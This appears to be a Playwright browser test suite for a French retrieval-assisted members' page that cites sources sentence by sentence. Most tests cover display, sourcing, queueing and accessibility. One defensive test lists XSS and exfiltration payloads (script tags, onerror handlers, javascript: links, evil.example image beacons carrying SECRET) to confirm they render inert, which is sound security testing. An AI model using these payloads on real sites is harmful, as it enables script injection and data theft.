"""The members' page in a real browser: what a person sees, in what order, and that nothing leaves the machine."""

from __future__ import annotations

import re
import threading
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect
from tests.ui.conftest import CHROMIUM, OpenPage, Service, running
from tests.ui.material import (
    ABSTAINED,
    ALLOWANCE_QUOTE,
    ANSWERED,
    ASK_ABSTAINED,
    ASK_ANSWERED,
    ASK_QUOTED,
    FEW,
    PLAYS,
    RAISE_QUOTE,
)
from tests.ui.scripted import Play, ScriptedAssistant, citation, document, hit

from sourcier.core.settings import ServeSettings, Settings
from sourcier.core.types import Removed

pytestmark = [
    pytest.mark.skipif(
        not CHROMIUM.exists(),
        reason=f"NO BROWSER: {CHROMIUM} is absent, so the page is NOT tested here (on Debian: apt-get install chromium)",
    ),
    # Gradio 6.31's queue uses an option and an argument that pandas 3.1 deprecates.
    pytest.mark.filterwarnings("ignore:'future.no_silent_downcasting' is deprecated"),
    pytest.mark.filterwarnings("ignore:The copy keyword is deprecated"),
]


def ask(page: Page, question: str, *, wait: bool = True) -> None:
    """Type and send; by default wait for the end of the answer."""
    page.locator("#question textarea").fill(question)
    page.locator("#question textarea").press("Enter")
    expect(page.locator("#current .question p")).to_have_text(question)
    if wait:
        expect(page.locator("#current .turn:is(.answered, .quoted, .abstained, .failed)")).to_be_visible()
        expect(page.locator("#ask")).to_be_visible()


def test_the_page_is_in_french_whatever_the_browser_speaks(service: Service, open_page: OpenPage) -> None:
    page = open_page(service.address)
    assert page.evaluate("[navigator.language, document.documentElement.lang.slice(0, 2)]") == ["fr", "fr"]
    expect(page).to_have_title(re.compile("Fédération des métiers du livre"))
    expect(page.locator("h1")).to_have_text("Fédération des métiers du livre")
    expect(page.locator(".tagline")).to_contain_text("phrase par phrase")
    expect(page.locator(".assurance")).to_contain_text("ni conservées ni envoyées")
    expect(page.locator(".assurance")).to_contain_text("Nadia Roy, poste 214")
    expect(page.get_by_role("textbox", name="Votre question")).to_be_focused()
    expect(page.locator("#ask")).to_have_text("Demander")
    expect(page.locator("button.example")).to_have_count(3)
    shown = page.locator("body").inner_text()
    assert not re.search(r"\b(Submit|Stop|Clear|Copy|Settings|Built with|Loading)\b", shown)


def test_sources_come_first_then_each_sentence_as_it_is_verified(service: Service, open_page: OpenPage) -> None:
    gate = service.assistant.gate = threading.Semaphore(0)
    page = open_page(service.address)
    ask(page, ASK_ANSWERED, wait=False)
    turn = page.locator("#current .turn")
    expect(turn.locator(".card")).to_have_count(3)
    expect(turn.locator(".card").nth(2)).to_contain_text("Convention collective 2024-2028")
    for part in ("Article 12 › Vacances", "novembre 2024", "p. 41", "Association des imprimeurs", "quatre semaines"):
        expect(turn.locator(".card").nth(2)).to_contain_text(part)
    expect(turn.locator(".progress")).to_contain_text("3 passages trouvés")
    expect(turn.locator(".sentence")).to_have_count(0)
    expect(turn.locator(".elapsed")).to_have_text(re.compile(r"· [3-9]\ss"))
    gate.release()
    expect(turn.locator(".progress")).to_contain_text("rédaction en cours avec modele-d-essai-1b")
    for count in (1, 2, 3):
        gate.release()
        expect(turn.locator(".sentence")).to_have_count(count)
        expect(page.locator("#announcer")).to_contain_text(ANSWERED.sentences[count - 1][0])
    assert "[" not in page.locator("#announcer").inner_text()
    for _ in range(3):
        gate.release()
    expect(turn).to_have_class(re.compile("answered"))
    expect(turn.locator(".progress")).to_have_count(0)
    expect(turn.locator(".facts")).to_contain_text("Rédigé par modele-d-essai-1b (modèle embarqué, sur cette machine)")
    expect(turn.locator(".facts")).to_contain_text("8,4 s")
    expect(turn.locator(".facts")).to_contain_text("0,070 Wh")
    removed = turn.locator(".removed")
    expect(removed.locator("summary")).to_have_text("2 phrases retirées, non vérifiées")
    expect(removed.locator("li").first).not_to_be_visible()
    removed.locator("summary").click()
    expect(removed.locator("li").first).to_contain_text("un nombre, une date ou un montant diffère des sources")
    expect(turn.locator(".others summary")).to_have_text("1 autre passage consulté")


def test_a_marker_opens_the_quote_highlighted_in_its_passage(service: Service, open_page: OpenPage) -> None:
    page = open_page(service.address)
    ask(page, ASK_ANSWERED)
    drawer = page.locator("#drawer")
    expect(drawer).to_be_hidden()
    marker = page.locator("#current").get_by_role("button", name="Voir la source 1")
    marker.click()
    expect(drawer).to_be_visible()
    expect(drawer).to_be_focused()
    expect(drawer.locator("mark")).to_have_text(ALLOWANCE_QUOTE)
    expect(drawer.locator("blockquote")).to_contain_text("Le droit à la déconnexion")
    for part in (
        "Guide du télétravail",
        "Conditions › Matériel et dépenses",
        "1er mars 2026",
        "Fédération des métiers",
    ):
        expect(drawer).to_contain_text(part)
    expect(drawer).to_contain_text("Direction des ressources humaines, note 14")
    page.keyboard.press("Escape")
    expect(drawer).to_be_hidden()
    expect(marker).to_be_focused()
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(drawer.locator("mark")).to_have_text(RAISE_QUOTE)
    page.get_by_role("button", name="Fermer").click()
    page.locator("#current .card").first.click()
    expect(drawer.locator("mark")).to_have_count(2)


def test_an_open_passage_stays_open_while_sentences_arrive(service: Service, open_page: OpenPage) -> None:
    gate = service.assistant.gate = threading.Semaphore(2)
    page = open_page(service.address)
    ask(page, ASK_ANSWERED, wait=False)
    page.locator("#current .marker").first.click()
    gate.release()
    expect(page.locator("#current .sentence")).to_have_count(2)
    expect(page.locator("#drawer mark")).to_have_text(ALLOWANCE_QUOTE)
    expect(page.locator("#current .marker").first).to_have_class(re.compile("open"))


def test_quotes_and_abstentions_do_not_look_like_written_answers(service: Service, open_page: OpenPage) -> None:
    page = open_page(service.address)
    ask(page, ASK_QUOTED)
    expect(page.locator("#current .badge")).to_have_text("Citations exactes, sans rédaction par IA")
    expect(page.locator("#current blockquote.sentence")).to_have_count(2)
    expect(page.locator("#current .notice")).to_contain_text("ne répond pas")
    expect(page.locator("#current .facts")).to_contain_text("Aucun modèle n'a rédigé")
    ask(page, ASK_ABSTAINED)
    answer = page.locator("#current .answer")
    expect(answer.locator(".badge")).to_have_text("Les documents ne permettent pas de répondre")
    expect(page.locator("#announcer")).to_contain_text("ne permettent pas")
    for title in ("Guide du télétravail", "Procès-verbal du conseil fédéral", "Convention collective 2024-2028"):
        expect(answer).to_contain_text(title)
    expect(answer).to_contain_text("Nadia Roy, poste 214")
    expect(page.locator("#current .sentence")).to_have_count(0)
    expect(page.locator("#past-turns .turn.quoted")).to_be_visible()


def test_earlier_turns_live_in_the_browser_until_cleared(service: Service, open_page: OpenPage) -> None:
    page = open_page(service.address)
    for question in (ASK_ANSWERED, ASK_QUOTED, ASK_ABSTAINED):
        ask(page, question)
    expect(page.locator("#past-turns .question p")).to_have_text([ASK_ANSWERED, ASK_QUOTED])
    page.locator("#past-turns .turn.answered .marker").first.click()
    expect(page.locator("#drawer mark")).to_have_text(ALLOWANCE_QUOTE)
    assert page.evaluate("localStorage.length + document.cookie.length") == 0
    page.locator("#drawer-close").click()
    page.locator("#clear").click()
    expect(page.locator(".turn")).to_have_count(0)
    expect(page.locator("button.example").first).to_be_visible()


def test_stopping_keeps_what_was_verified_and_frees_the_place(service: Service, open_page: OpenPage) -> None:
    gate = service.assistant.gate = threading.Semaphore(2)
    page = open_page(service.address)
    ask(page, ASK_ANSWERED, wait=False)
    expect(page.locator("#current .sentence")).to_have_count(1)
    page.locator("#stop").click()
    expect(page.locator("#current .stopped")).to_contain_text("Rédaction arrêtée")
    expect(page.locator("#current .progress")).to_be_hidden()
    expect(page.locator("#ask")).to_be_visible()
    # The sentence under way is not finished: the next question is asked all the same, and waits for it.
    ask(page, ASK_QUOTED, wait=False)
    expect(page.locator("#current .progress")).to_contain_text("une question passe avant la vôtre")
    for _ in range(50):
        gate.release()
    expect(page.locator("#current .turn.quoted")).to_be_visible()
    assert service.assistant.closed == 1
    assert service.assistant.most_running == 1
    expect(page.locator("#past-turns .stopped")).to_be_visible()
    expect(page.locator("#past-turns .sentence")).to_have_count(1)


def test_the_next_question_can_be_typed_while_one_is_answered(service: Service, open_page: OpenPage) -> None:
    gate = service.assistant.gate = threading.Semaphore(1)
    page = open_page(service.address)
    ask(page, ASK_ANSWERED, wait=False)
    expect(page.locator("#current .progress")).to_contain_text("rédaction")
    box = page.locator("#question textarea")
    expect(box).to_have_value("")
    box.fill(ASK_QUOTED)
    for _ in range(50):
        gate.release()
    expect(page.locator("#current .turn.answered")).to_be_visible()
    expect(box).to_have_value(ASK_QUOTED)


def test_a_second_person_sees_sources_at_once_and_their_place_in_line(service: Service, open_page: OpenPage) -> None:
    gate = service.assistant.gate = threading.Semaphore(1)
    first, second = open_page(service.address), open_page(service.address)
    ask(first, ASK_ANSWERED, wait=False)
    expect(first.locator("#current .progress")).to_contain_text("rédaction")
    ask(second, ASK_QUOTED, wait=False)
    expect(second.locator("#current .card")).to_have_count(3)
    expect(second.locator("#current .progress")).to_contain_text("une question passe avant la vôtre")
    for _ in range(50):
        gate.release()
    expect(first.locator("#current .turn.answered")).to_be_visible()
    expect(second.locator("#current .turn.quoted")).to_be_visible()
    assert service.assistant.most_running == 1


def test_a_failure_is_one_sentence_and_the_page_goes_on(service: Service, open_page: OpenPage) -> None:
    page = open_page(service.address)
    ask(page, "une question sans réponse prévue")
    expect(page.locator("#current .failure")).to_contain_text("erreur interne")
    assert "RuntimeError" not in page.locator("body").inner_text()
    page.locator("#question textarea").fill("   ")
    page.locator("#ask").click()
    ask(page, ASK_ANSWERED)
    expect(page.locator("#current .sentence")).to_have_count(3)


HOSTILE = [
    "![x](http://evil.example/a.png?d=SECRET)",
    "<img src=http://evil.example/b.png onerror=alert(1)>",
    "<script>alert(2)</script><script src=http://evil.example/c.js></script>",
    "[cliquez](http://evil.example/d) [x](javascript:alert(3)) <http://evil.example/e> http://evil.example/f",
    "</div></article></span><iframe src=http://evil.example/g></iframe><svg onload=alert(4)>",
    "![x][r]\n\n[r]: http://evil.example/h.png\n\n# titre\n\n```js\nalert(5)\n```\n\n| a | b |\n|---|---|\n| ![x](http://evil.example/i) | b |",
    "{{constructor.constructor('alert(6)')()}} ${alert(7)} <%= 1 %> $$\\href{javascript:alert(8)}{x}$$ \\(x\\)",
    "![x](/gradio_api/file=http://evil.example/j.png) <a href='javascript:alert(9)'>x</a> &lt;img src=x&gt; &#60;b&#62;",
    '" onmouseover="alert(10)" style="background:url(http://evil.example/k)',
    "<style>@import 'http://evil.example/l.css';</style><link rel=stylesheet href=http://evil.example/m.css><base href=http://evil.example/>",
]


def test_hostile_text_is_shown_as_text_and_nothing_runs_or_leaves(service: Service, open_page: OpenPage) -> None:
    page = open_page(service.address)
    page.evaluate("() => { window.alert = (x) => { throw new Error('ran: ' + x) } }")
    for number, attack in enumerate(HOSTILE):
        source = document(attack, f"Titre {attack}", f"Début. {attack} Fin.", publisher=attack, date=attack)
        found = hit(source, 1, section=(attack, "§"), notes=(attack,))
        sentences = (
            (f"Phrase {attack}", (citation(1, found, attack),)),
            (f"- {attack}", (citation(1, found, attack),)),
        )
        question = f"Q{number} {attack}".replace("\n", " ")
        for status in ("answered", "quoted", "abstained"):
            shown = () if status == "abstained" else sentences
            play = Play((found,), status, shown, (Removed(attack, attack, 0.0),), (attack,))
            service.assistant.default = play
            ask(page, question)
            turn = page.locator(f"#current .turn.{status}")
            elements = turn.evaluate("e => [...e.querySelectorAll('*')].map(x => x.tagName.toLowerCase())")
            assert not set(elements) & {
                "img",
                "script",
                "iframe",
                "svg",
                "style",
                "link",
                "base",
                "code",
                "table",
                "h1",
            }
            assert "math" not in elements
            attributes = turn.evaluate("e => [...e.querySelectorAll('*')].flatMap(x => x.getAttributeNames())")
            assert set(attributes) <= {
                "class",
                "id",
                "type",
                "value",
                "hidden",
                "open",
                "href",
                "target",
                "rel",
                "lang",
            }
            links = turn.evaluate("e => [...e.querySelectorAll('a')].map(x => x.getAttribute('href'))")
            assert all(re.fullmatch(r"\.?/documents/[0-9a-f]{16}[\w/#-]*", link) for link in links), links
            if shown:
                text = turn.locator(".sentence").first.evaluate("e => e.textContent")
                assert attack in text
                page.locator("#current .marker").first.click()
                quoted = page.locator("#drawer mark").evaluate("e => e.textContent")
                assert quoted == attack
                page.keyboard.press("Escape")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_a_phone_never_scrolls_sideways(service: Service, open_page: OpenPage, scheme: str) -> None:
    endless = "anticonstitutionnellement" * 8
    source = document(f"{endless}.pdf", endless, f"{endless} fin", publisher=endless)
    found = hit(source, 1, section=(endless,))
    service.assistant.default = Play(
        (found,), "answered", ((endless, (citation(1, found, endless),)),), (Removed(endless, "name"),)
    )
    page = open_page(service.address, width=380, height=740, scheme=scheme)
    sideways = "document.documentElement.scrollWidth > innerWidth"
    assert not page.evaluate(sideways)
    for question in (endless, ASK_ANSWERED, ASK_QUOTED, ASK_ABSTAINED):
        ask(page, question)
        assert not page.evaluate(sideways)
    page.locator("#past-turns .marker").first.click()
    assert not page.evaluate(sideways)
    box = page.locator("#drawer").bounding_box()
    assert box is not None
    assert (box["x"], box["width"]) == (0, 380)
    expect(page.locator("#drawer-close")).to_be_in_viewport()


def test_everything_can_be_reached_from_the_keyboard_with_a_visible_focus(
    service: Service, open_page: OpenPage
) -> None:
    page = open_page(service.address)
    ask(page, ASK_ANSWERED)
    page.locator("h1").click()
    reached = set()
    for _ in range(30):
        page.keyboard.press("Tab")
        name, outline = page.evaluate(
            "(() => { const e = document.activeElement, s = getComputedStyle(e);"
            " return [e.id || e.className.split(' ')[0] || e.tagName, parseFloat(s.outlineWidth) + s.outlineStyle] })()"
        )
        if name != "BODY":
            reached.add(name)
            assert re.match(r"[23]solid", outline), (name, outline)
    assert {"marker", "card", "SUMMARY", "ask", "clear"} <= reached


def test_an_english_page_is_english(tmp_path: Path, open_page: OpenPage) -> None:
    settings = Settings(home=tmp_path, language="en", serve=ServeSettings(port=0))
    for served in running(settings, ScriptedAssistant(dict(PLAYS), ABSTAINED)):
        page = open_page(served.address)
        assert page.evaluate("[navigator.language, document.documentElement.lang.slice(0, 2)]") == ["en", "en"]
        expect(page.locator("#ask")).to_have_text("Ask")
        ask(page, ASK_ANSWERED)
        expect(page.locator("#current .facts")).to_contain_text("8.4 s")
        page.locator("#current .marker").first.click()
        expect(page.locator("#drawer")).to_contain_text("1 March 2026")
        page.close()
    assert FEW.held
